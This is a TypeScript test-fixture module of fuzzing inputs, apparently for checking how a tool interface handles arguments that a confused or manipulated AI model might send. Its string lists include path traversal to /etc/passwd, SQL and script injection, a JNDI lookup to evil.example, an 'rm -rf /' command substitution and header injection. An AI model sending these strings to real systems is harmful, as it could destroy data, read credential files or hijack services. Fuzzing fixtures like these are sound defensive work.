/**
 * What a confused or manipulated model may put in its tool arguments: injection strings, unicode
 * that breaks naive code, names that reach prototypes, values JSON cannot hold, and sizes no
 * schema expects.
 * @module
 */
import { CANARY_KEY, CANARY_TOKEN } from './canaries.js';

/** Strings aimed at paths, headers, queries, SQL, HTML, templates and shells; and hard unicode. */
export const HOSTILE_STRINGS: readonly string[] = [
  '..',
  '.',
  '../../../etc/passwd',
  '..%2F..%2Fcontrol',
  '%2e%2e',
  '%00',
  '\u0000',
  'a\u0000b',
  'value\r\nX-Injected: yes',
  '\r\n\r\nGET /admin HTTP/1.1\r\n',
  "' OR '1'='1' --",
  "'; DROP TABLE accounts; --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template injection text, sent as it is.
  '{{7*7}}${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template injection text, sent as it is.
  '${jndi:ldap://evil.example/a}',
  '$(rm -rf /)`id`',
  '\u202Egnp.exe\u202C',
  'مرحبا بالعالم',
  'שלום עולם',
  '𝕳𝖊𝖑𝖑𝖔 🏳️‍🌈 👩‍👩‍👧‍👦',
  '\uD800',
  '\uDFFF\uD800',
  '\uFEFF\u200B\u2028\u2029',
  'null',
  'undefined',
  'NaN',
  '1e309',
  '-0',
  '[]',
  '{}',
  '{"__proto__":{"polluted":true}}',
  '/',
  '//evil.example/x',
  'http://evil.example/steal',
  'file:///etc/passwd',
  'javascript:alert(1)',
  '?key=x&token=y#frag',
  ' ',
  '',
  CANARY_KEY,
  `Bearer ${CANARY_TOKEN}`,
];

/** Property names no operation has, some of which only misbehaving code would notice. */
export const HOSTILE_NAMES: readonly string[] = [
  '',
  ' ',
  'key',
  'Key',
  'KEY',
  'api_key',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupSetter__',
  'isPrototypeOf',
  '\u0000',
  'name\r\nX-Injected: yes',
  '../../x',
  '$ref',
  '#/definitions/x',
  '😀',
  'ǅ\u0301',
  'n'.repeat(5_000),
];

/** Names that reach an object's prototype when code assigns them. */
export const PROTOTYPE_NAMES: readonly string[] = ['__proto__', 'constructor', 'prototype'];

class NotPlainJson {
  readonly field = 1;
}

/** Values JSON cannot carry, or carries differently: each must be refused or dropped, never crash. */
export function nonJsonValues(): readonly unknown[] {
  const throwingGetter = {};
  Object.defineProperty(throwingGetter, 'boom', {
    enumerable: true,
    get() {
      throw new Error('getter exploded');
    },
  });
  const throwingProxy = new Proxy(
    {},
    {
      ownKeys() {
        throw new Error('proxy exploded');
      },
    },
  );
  return [
    Number.NaN,
    Number.POSITIVE_INFINITY,
    Number.NEGATIVE_INFINITY,
    () => 'function',
    Symbol('symbol'),
    10n ** 30n,
    new Date(0),
    new Map([['a', 1]]),
    new Set([1]),
    /regular-expression/g,
    new Uint8Array([1, 2, 3]),
    new NotPlainJson(),
    throwingGetter,
    throwingProxy,
  ];
}

const HUGE_TEXT = 'x'.repeat(300_000);
const HUGE_EMOJI = '😀'.repeat(100_000);
const MANY_ITEMS = Array.from({ length: 20_000 }, (_, index) => index);

/** Sizes and magnitudes at and past what any field allows. */
export const HUGE_VALUES: readonly unknown[] = [
  HUGE_TEXT,
  HUGE_EMOJI,
  MANY_ITEMS,
  Array.from({ length: 2_000 }, () => HUGE_TEXT.slice(0, 100)),
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
  Number.MIN_VALUE,
  2 ** 53 + 2,
  -(2 ** 63),
  -0,
];

/** A value nested `depth` levels deep, alternating objects and arrays. */
export function deeplyNested(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { deeper: value };
  return value;
}
